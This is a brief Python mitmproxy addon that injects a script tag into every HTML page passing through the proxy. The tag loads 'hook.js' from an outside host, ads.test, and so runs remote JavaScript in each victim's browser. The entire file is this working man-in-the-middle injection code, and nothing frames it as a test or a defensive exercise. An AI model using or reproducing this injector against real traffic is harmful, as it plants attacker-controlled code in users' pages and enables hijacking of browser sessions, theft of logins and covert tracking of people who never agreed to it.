"""mitmproxy addon: adds a script to every HTML page."""

from mitmproxy import http


def response(flow: http.HTTPFlow) -> None:
    if "html" in flow.response.headers.get("Content-Type", ""):
        flow.response.text = flow.response.text.replace(
            "</body>", "<script src=http://ads.test/hook.js></script></body>"
        )
